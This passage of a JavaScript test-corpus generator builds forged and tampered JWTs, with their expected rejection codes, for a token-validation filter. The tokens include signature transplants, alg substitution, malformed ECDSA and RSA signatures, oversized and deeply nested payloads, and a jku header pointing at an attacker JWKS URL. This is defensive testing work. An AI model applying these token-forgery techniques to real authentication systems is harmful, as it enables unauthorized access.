    empty_array: [{ scope: [] }, 'scope_empty'],
    missing: [{ scope: undefined }, 'scope_empty'],
    other_scope: [{ scope: 'model.list' }, 'scope_insufficient'],
    upper_case: [{ scope: REQUIRED_SCOPE.toUpperCase() }, 'scope_insufficient'],
    wildcard: [{ scope: 'model.*' }, 'scope_insufficient'],
    comma_separated: [{ scope: `${REQUIRED_SCOPE},model.list` }, 'scope_insufficient'],
    no_break_space_joined: [{ scope: `${REQUIRED_SCOPE}\u00a0admin` }, 'claim_invalid'],
    prefix_of_scope: [{ scope: 'model.invok' }, 'scope_insufficient'],
    foreign_identifier: [{ scope: `api://other|${REQUIRED_SCOPE}` }, 'scope_insufficient'],
  };
  for (const [label, [overrides, reason]] of Object.entries(cases)) {
    add('scope_type', label, jws(rsHeader, claims(overrides), signers.rs256), reason);
  }
}

// Nesting beyond serde_json's recursion limit of 128, inside the 8 KiB token limit unless the
// name says otherwise.
function addJsonDepth() {
  const arrays = (depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const objects = (depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const claimsText = JSON.stringify(claims()).slice(1, -1);
  for (const depth of [130, 200, 1000, 2500]) {
    add('json_depth', `payload_arrays_${depth}`, jws(rsHeader, `{${claimsText},"x":${arrays(depth)}}`, signers.rs256), 'token_malformed');
  }
  for (const depth of [130, 500, 1000]) {
    add('json_depth', `payload_objects_${depth}`, jws(rsHeader, `{${claimsText},"x":${objects(depth)}}`, signers.rs256), 'token_malformed');
  }
  add('json_depth', 'aud_arrays_300', jws(rsHeader, JSON.stringify(claims()).replace(`"aud":"${AUDIENCE}"`, `"aud":${'['.repeat(300)}"${AUDIENCE}"${']'.repeat(300)}`), signers.rs256), 'token_malformed');
  for (const depth of [200, 1500]) {
    add('json_depth', `header_arrays_${depth}`, jws(`{"alg":"RS256","kid":"${IDP_KID}","x":${arrays(depth)}}`, claims(), signers.rs256), 'token_malformed');
  }
  add('json_depth', 'header_objects_300', jws(`{"alg":"RS256","kid":"${IDP_KID}","x":${objects(300)}}`, claims(), signers.rs256), 'token_malformed');
  add('json_depth', 'payload_arrays_5000_over_size_limit', jws(rsHeader, `{${claimsText},"x":${arrays(5000)}}`, signers.rs256), 'token_malformed',
    'the token exceeds the 8 KiB limit before it is parsed');
}

/// Returns a valid RS256 token of exactly `length` bytes, padded with a `pad` claim. A 2048-bit
/// RSA signature is always 342 characters, so the length is known before signing. An unpadded
/// base64url length is never 1 mod 4, so an unregistered header member `nonce` of 0 to 3
/// characters shifts the header length until some payload length fits.
function validTokenOfLength(length) {
  const signatureLength = b64u(Buffer.alloc(256)).length;
  for (let nonceLength = 0; nonceLength < 4; nonceLength++) {
    const header = nonceLength === 0 ? rsHeader : { ...rsHeader, nonce: 'n'.repeat(nonceLength) };
    for (let padLength = 0; padLength < length; padLength++) {
      const payload = claims({ pad: 'p'.repeat(padLength) });
      const total = segment(header).length + segment(payload).length + 2 + signatureLength;
      if (total === length) return jws(header, payload, signers.rs256);
      if (total > length) break;
    }
  }
  throw new Error(`no token of ${length} bytes`);
}

function addOversized() {
  for (const length of [MAX_TOKEN_BYTES + 1, MAX_TOKEN_BYTES + 2, MAX_TOKEN_BYTES + 3, 9000, 16384]) {
    add('oversized', `valid_rs256_${length}_bytes`, validTokenOfLength(length), 'token_malformed');
  }
  add('oversized', 'letters_8193_bytes', 'a'.repeat(MAX_TOKEN_BYTES + 1), 'token_malformed');
  add('oversized', 'alg_none_over_limit', jws({ alg: 'none' }, claims({ pad: 'p'.repeat(7000) }), signers.empty), 'token_malformed');
  const es = jws(esHeader, claims({ pad: 'p'.repeat(6100) }), signers.es256);
  if (es.length <= MAX_TOKEN_BYTES) throw new Error('ES256 oversized token is too short');
  add('oversized', 'valid_es256_over_limit', es, 'token_malformed');
}

function bigIntToBytes(value, length) {
  const hex = value.toString(16).padStart(length * 2, '0');
  if (hex.length > length * 2) throw new Error(`${value} does not fit ${length} bytes`);
  return Buffer.from(hex, 'hex');
}

function bytesToBigInt(bytes) {
  return BigInt(`0x${Buffer.from(bytes).toString('hex')}`);
}

/// Builds an ES256 token whose signature is `transform(r, s)` of a valid P1363 signature.
function esTokenWithSignature(transform) {
  return jws(esHeader, claims(), (input) => {
    const signature = signers.es256(input);
    return transform(signature.subarray(0, 32), signature.subarray(32, 64));
  });
}

function addEcdsaSignatures() {
  const zero = Buffer.alloc(32);
  const order = bigIntToBytes(P256_ORDER, 32);
  const one = bigIntToBytes(1n, 32);
  const cases = {
    r_zero: (r, s) => Buffer.concat([zero, s]),
    s_zero: (r, s) => Buffer.concat([r, zero]),
    r_and_s_zero: () => Buffer.alloc(64),
    r_equals_order: (r, s) => Buffer.concat([order, s]),
    s_equals_order: (r, s) => Buffer.concat([r, order]),
    r_one_s_one: () => Buffer.concat([one, one]),
    all_ones_bits: () => Buffer.alloc(64, 0xff),
    r_and_s_swapped: (r, s) => Buffer.concat([s, r]),
    truncated_to_63_bytes: (r, s) => Buffer.concat([r, s]).subarray(0, 63),
    extended_to_65_bytes: (r, s) => Buffer.concat([r, s, Buffer.from([0])]),
    leading_zero_65_bytes: (r, s) => Buffer.concat([Buffer.from([0]), r, s]),
    coordinates_33_bytes_each: (r, s) => Buffer.concat([Buffer.from([0]), r, Buffer.from([0]), s]),
    r_only_32_bytes: (r) => Buffer.from(r),
    doubled_128_bytes: (r, s) => Buffer.concat([r, s, r, s]),
    empty: () => Buffer.alloc(0),
    one_bit_flipped: (r, s) => {
      const bytes = Buffer.concat([r, s]);
      bytes[40] ^= 0x01;
      return bytes;
    },
  };
  for (const [label, transform] of Object.entries(cases)) {
    add('ecdsa_signature', label, esTokenWithSignature(transform), 'signature_invalid');
  }
  add('ecdsa_signature', 'der_encoded', jws(esHeader, claims(), signers.es256Der), 'signature_invalid',
    'JWS requires the fixed-width r || s form (RFC 7518 section 3.4)');
  const [header, payload] = splitToken(validEs256);
  const otherInput = splitToken(jws(esHeader, claims({ sub: 'other' }), signers.es256));
  add('ecdsa_signature', 'signature_of_other_payload', `${header}.${payload}.${otherInput[2]}`, 'signature_invalid');

  // High-S: (r, n - s) verifies whenever (r, s) does. The filter (ring's ECDSA_P256_SHA256_FIXED)
  // does not require low S, so this is the same token content with a second valid signature,
  // not a forgery: producing it needs a valid signature over the same signing input.
  const highS = esTokenWithSignature((r, s) => Buffer.concat([r, bigIntToBytes(P256_ORDER - bytesToBigInt(s), 32)]));
  acceptedVariants.push({
    name: 'ecdsa_signature/high_s',
    category: 'ecdsa_signature',
    token: highS,
    explanation: 'ECDSA signatures are malleable: (r, n - s) is valid whenever (r, s) is, and RFC 7518 does not require low S. '
      + 'Making this token needs a valid signature over the same header and payload, so it grants nothing the original token did not.',
  });
}

/// Builds an RS256 token whose signature is `transform(signature)`.
function rsTokenWithSignature(transform) {
  return jws(rsHeader, claims(), (input) => transform(signers.rs256(input)));
}

function addRsaSignatures() {
  const modulus = Buffer.from(idpJwk.n, 'base64url');
  const cases = {
    one_byte_short_end: (s) => s.subarray(0, s.length - 1),
    one_byte_short_start: (s) => s.subarray(1),
    one_byte_long_zero_appended: (s) => Buffer.concat([s, Buffer.from([0])]),
    one_byte_long_zero_prepended: (s) => Buffer.concat([Buffer.from([0]), s]),
    doubled: (s) => Buffer.concat([s, s]),
    all_zero: (s) => Buffer.alloc(s.length),
    value_one: (s) => bigIntToBytes(1n, s.length),
    equals_modulus: () => Buffer.from(modulus),
    modulus_minus_one: () => bigIntToBytes(bytesToBigInt(modulus) - 1n, modulus.length),
    all_ff: (s) => Buffer.alloc(s.length, 0xff),
    one_bit_flipped_first_byte: (s) => {
      const bytes = Buffer.from(s);
      bytes[0] ^= 0x01;
      return bytes;
    },
    one_bit_flipped_last_byte: (s) => {
      const bytes = Buffer.from(s);
      bytes[bytes.length - 1] ^= 0x80;
      return bytes;
    },
    empty: () => Buffer.alloc(0),
    single_zero_byte: () => Buffer.alloc(1),
  };
  for (const [label, transform] of Object.entries(cases)) {
    add('rsa_signature', label, rsTokenWithSignature(transform), 'signature_invalid');
  }
  add('rsa_signature', 'signed_by_unpublished_key', jws(rsHeader, claims(), signers.otherRs256), 'signature_invalid');
  add('rsa_signature', 'sha384_digest_under_rs256', jws(rsHeader, claims(), signers.rs384), 'signature_invalid');
  add('rsa_signature', 'sha512_digest_under_rs256', jws(rsHeader, claims(), signers.rs512), 'signature_invalid');
  add('rsa_signature', 'pss_padding_under_rs256', jws(rsHeader, claims(), signers.ps256), 'signature_invalid');
  const [header, payload] = splitToken(validRs256);
  add('rsa_signature', 'signature_over_payload_only', `${header}.${payload}.${b64u(signers.rs256(Buffer.from(payload)))}`, 'signature_invalid');
  add('rsa_signature', 'es256_signature_bytes', `${header}.${payload}.${splitToken(validEs256)[2]}`, 'signature_invalid');
}

// A valid signature moved onto another header (or payload) than the one it signs.
function addSignatureTransplant() {
  const [, payload, signature] = splitToken(validRs256);
  const headers = {
    typ_removed: [{ alg: 'RS256', kid: IDP_KID }, 'signature_invalid'],
    typ_jwt: [{ alg: 'RS256', typ: 'JWT', kid: IDP_KID }, 'signature_invalid'],
    members_reordered: [{ kid: IDP_KID, typ: 'at+jwt', alg: 'RS256' }, 'signature_invalid'],
    whitespace_added: [`{ "alg": "RS256", "typ": "at+jwt", "kid": "${IDP_KID}" }`, 'signature_invalid'],
    kid_removed: [{ alg: 'RS256', typ: 'at+jwt' }, 'signature_invalid'],
    jku_added: [{ ...rsHeader, jku: ATTACKER_JWKS_URL }, 'signature_invalid'],
    cty_added: [{ ...rsHeader, cty: 'JWT' }, 'signature_invalid'],
    alg_rs384: [{ ...rsHeader, alg: 'RS384' }, 'key_not_found'],
    alg_ps256: [{ ...rsHeader, alg: 'PS256' }, 'key_not_found'],
    es256_header_of_ec_key: [esHeader, 'signature_invalid'],
  };
  for (const [label, [header, reason]] of Object.entries(headers)) {
    add('signature_transplant', `header_${label}`, `${segment(header)}.${payload}.${signature}`, reason);
  }
  const [rsHeaderSegment] = splitToken(validRs256);
  const payloads = {
    scope_widened: claims({ scope: `${REQUIRED_SCOPE} admin` }),
    sub_changed: claims({ sub: 'admin' }),
    exp_extended: claims({ exp: EXP_2100 + 1 }),
    aud_changed: claims({ aud: 'api://other' }),
  };
  for (const [label, changed] of Object.entries(payloads)) {
    add('signature_transplant', `payload_${label}`, `${rsHeaderSegment}.${segment(changed)}.${signature}`, 'signature_invalid');
  }
  const [esHeaderSegment, , esSignature] = splitToken(validEs256);
  add('signature_transplant', 'es256_header_typ_removed', `${segment({ alg: 'ES256', kid: EC_KID })}.${splitToken(validEs256)[1]}.${esSignature}`, 'signature_invalid');
  add('signature_transplant', 'es256_payload_scope_widened', `${esHeaderSegment}.${segment(claims({ scope: 'admin model.invoke' }))}.${esSignature}`, 'signature_invalid');
}

// alg values that are not accepted, or that do not fit the named key.
function addAlgSubstitution() {
  const notAllowed = {
    trailing_space: 'RS256 ',
    lower_case: 'rs256',
    mixed_case: 'Rs256',
    hyphenated: 'RS-256',
    long_name: 'RSA256',
    empty: '',
    es512: 'ES512',
    rsa_oaep: 'RSA-OAEP',
    dir: 'dir',
    ed25519: 'Ed25519',
    nul_suffix: 'RS256\u0000',
    fullwidth: 'ＲＳ256',
  };
  for (const [label, alg] of Object.entries(notAllowed)) {
    add('alg_substitution', `alg_${label}`, jws({ alg, typ: 'at+jwt', kid: IDP_KID }, claims(), signers.rs256), 'alg_not_allowed');
  }
  for (const [label, alg] of Object.entries({ number: 256, null: null, array: ['RS256'], object: { name: 'RS256' }, bool: true })) {
    add('alg_substitution', `alg_${label}`, jws({ alg, typ: 'at+jwt', kid: IDP_KID }, claims(), signers.rs256), 'alg_not_allowed');
  }
  add('alg_substitution', 'alg_missing', jws({ typ: 'at+jwt', kid: IDP_KID }, claims(), signers.rs256), 'alg_not_allowed');
  const keyMismatch = {
    rs384_with_rs256_key: [{ alg: 'RS384', kid: IDP_KID }, signers.rs384],
    rs512_with_rs256_key: [{ alg: 'RS512', kid: IDP_KID }, signers.rs512],
    ps256_with_rs256_key: [{ alg: 'PS256', kid: IDP_KID }, signers.ps256],
    rs256_with_ec_key: [{ alg: 'RS256', kid: EC_KID }, signers.rs256],
    es256_with_rsa_key: [{ alg: 'ES256', kid: IDP_KID }, signers.es256],
    es384_with_p256_key: [{ alg: 'ES384', kid: EC_KID }, signers.es256],
    eddsa_with_rsa_key: [{ alg: 'EdDSA', kid: IDP_KID }, signers.rs256],
    eddsa_without_kid: [{ alg: 'EdDSA' }, signers.rs256],
    ps256_without_kid: [{ alg: 'PS256' }, signers.ps256],
  };
  for (const [label, [header, signer]] of Object.entries(keyMismatch)) {
    add('alg_substitution', label, jws({ ...header, typ: 'at+jwt' }, claims(), signer), 'key_not_found',
      'the JWKS pins each key to its own alg, so no key fits');
  }
}

function addTokenStructure() {
  const [header, payload, signature] = splitToken(validRs256);
  const cases = {
    empty: '',
    single_dot: '.',
    two_dots: '..',
    three_dots: '...',
    two_parts: `${header}.${payload}`,
    four_parts: `${header}.${payload}.${signature}.${signature}`,
    jwe_shape_five_parts: `${header}.${payload}.${signature}.${payload}.${signature}`,
    leading_dot: `.${header}.${payload}.${signature}`,
    empty_header: `.${payload}.${signature}`,
    empty_payload: `${header}..${signature}`,
    header_is_array: `${segment('["RS256"]')}.${payload}.${signature}`,
    header_is_string: `${segment('"RS256"')}.${payload}.${signature}`,
    header_is_null: `${segment('null')}.${payload}.${signature}`,
    header_not_json: `${segment('alg=RS256')}.${payload}.${signature}`,
    header_with_byte_order_mark: `${segment(`\ufeff${JSON.stringify(rsHeader)}`)}.${payload}.${signature}`,
    header_trailing_data: `${segment(`${JSON.stringify(rsHeader)} x`)}.${payload}.${signature}`,
    header_two_objects: `${segment(`${JSON.stringify(rsHeader)}{}`)}.${payload}.${signature}`,
    header_invalid_utf8: `${b64u(Buffer.concat([Buffer.from('{"alg":"RS256","kid":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]))}.${payload}.${signature}`,
    header_single_quotes: `${segment("{'alg':'RS256'}")}.${payload}.${signature}`,
    header_trailing_comma: `${segment(`{"alg":"RS256","kid":"${IDP_KID}",}`)}.${payload}.${signature}`,
    payload_is_array: `${header}.${segment('[{"iss":"x"}]')}.${signature}`,
    payload_is_number: `${header}.${segment('4102444800')}.${signature}`,
    payload_not_json: `${header}.${segment('iss=x')}.${signature}`,
    payload_lone_surrogate: `${header}.${segment('{"sub":"\\ud800"}')}.${signature}`,
    signature_not_base64url: `${header}.${payload}.!!!`,
  };
  for (const [label, token] of Object.entries(cases)) {
    add('token_structure', label, token, 'token_malformed');
  }
}

function addIssuer() {
  const cases = {
    other_instance: 'https://another-instance.aliyunidaas.com/api/v2/iauths_system/oauth2',
    trailing_slash: `${ISSUER}/`,
    upper_case_host: ISSUER.replace('corpus-idp', 'CORPUS-IDP'),
    http_scheme: ISSUER.replace('https://', 'http://'),
    trailing_space: `${ISSUER} `,
    local_idp_issuer: 'http://127.0.0.1:9000/api/v2/iauths_system/oauth2',
    empty: '',
    number: 1,
    null: null,
    array: [ISSUER],
    object: { iss: ISSUER },
  };
  for (const [label, iss] of Object.entries(cases)) {
    add('issuer', label, jws(rsHeader, claims({ iss }), signers.rs256), 'issuer_unknown');
  }
  add('issuer', 'missing', jws(rsHeader, claimsWithoutMember('iss'), signers.rs256), 'issuer_unknown');
}

addAlgNone();
addHmacKeyConfusion();
addEmbeddedKeys();
addKidInjection();
addCrit();
addB64();
addBase64NonCanonical();
addDuplicateMembers();
addNumericClaims();
addAudienceTypes();
addScopeTypes();
addJsonDepth();
addOversized();
addEcdsaSignatures();
addRsaSignatures();
addSignatureTransplant();
addAlgSubstitution();
addTokenStructure();
addIssuer();

const controls = [
  { name: 'valid_rs256', token: validRs256 },
  { name: 'valid_es256', token: validEs256 },
  { name: 'valid_rs256_at_size_limit', token: validTokenOfLength(MAX_TOKEN_BYTES) },
];

const corpus = {
  description: 'Tokens the filter must reject, each with its reason code. Generated by tests/corpus/generate.mjs; do not edit.',
  issuer: ISSUER,
  audience: AUDIENCE,
  required_scope: REQUIRED_SCOPE,
  key_ids: [IDP_KID, EC_KID],
  controls,
  attacks,
  accepted_variants: acceptedVariants,
};

/// Serializes the corpus with one token per line, so diffs show which tokens changed.
function serialize(value) {
  const lines = Object.entries(value).map(([key, item]) => {
    const text = Array.isArray(item) && item.length > 0
      ? `[\n${item.map((element) => `    ${JSON.stringify(element)}`).join(',\n')}\n  ]`
      : JSON.stringify(item);
    return `  ${JSON.stringify(key)}: ${text}`;
  });
  return `{\n${lines.join(',\n')}\n}\n`;
}

writeFileSync(OUTPUT, serialize(corpus));
const counts = {};
for (const attack of attacks) counts[attack.category] = (counts[attack.category] ?? 0) + 1;
console.log(`wrote ${attacks.length} attacks, ${controls.length} controls and ${acceptedVariants.length} accepted variants to ${OUTPUT}`);
for (const [category, count] of Object.entries(counts)) console.log(`  ${category}: ${count}`);
